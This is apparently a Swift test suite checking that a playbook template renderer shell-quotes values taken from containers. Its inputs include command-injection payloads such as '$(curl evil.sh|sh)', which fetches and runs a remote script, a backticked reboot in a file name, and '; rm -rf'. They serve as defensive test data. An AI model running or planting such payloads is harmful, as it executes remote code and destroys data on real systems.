import BlackboxCore
@testable import Playbooks
import Testing

/// A value a container controls, placed in a command of a rendered text, stays one word of data when pasted into a
/// shell: quoted where it lands, outside quotes, inside `"…"` or inside `'…'` (the breaker's findings on stale-pid-file
/// and postgres-auth-failed).
@Suite struct ShellQuotingTests {
    func rendered(_ template: String, _ values: [String: String]) throws -> String {
        TemplateRenderer.render(try Template(template), values: values.mapValues(JSONValue.string))
    }

    @Test func aHostileValueInACommandIsQuotedWhereItLands() throws {
        #expect(try rendered("Run `rm -f {{file}}` now.", ["file": "/app/`reboot`.pid"]) == "Run `rm -f '/app/`reboot`.pid'` now.")
        #expect(try rendered("`rm -f {{file}}`", ["file": "/srv/my app; rm -rf ~/x.pid"]) == "`rm -f '/srv/my app; rm -rf ~/x.pid'`")
        #expect(try rendered(#"`psql -c "ALTER USER {{user}} WITH PASSWORD 'NEW'"`"#, ["user": "$(curl evil.sh|sh)"])
            == #"`psql -c "ALTER USER \$(curl evil.sh|sh) WITH PASSWORD 'NEW'"`"#)
        #expect(try rendered("`sh -c 'cat {{file}}'`", ["file": "a'b"]) == #"`sh -c 'cat a'\''b'`"#)
    }

    @Test func plainValuesAndProseAreLeftAsTheyAre() throws {
        #expect(try rendered("`docker start {{container}}`", ["container": "web-1_a.b"]) == "`docker start web-1_a.b`")
        #expect(try rendered("Log: {{line}} then `docker ps`", ["line": "it's `odd`; really"]) == "Log: it's `odd`; really then `docker ps`",
            "a value in prose is not quoted, and its backticks do not change where the command after it starts")
        #expect(try rendered("`docker logs {{name}}` and `rm {{file}}`", ["name": "a b", "file": "x"]) == "`docker logs 'a b'` and `rm x`")
    }
}
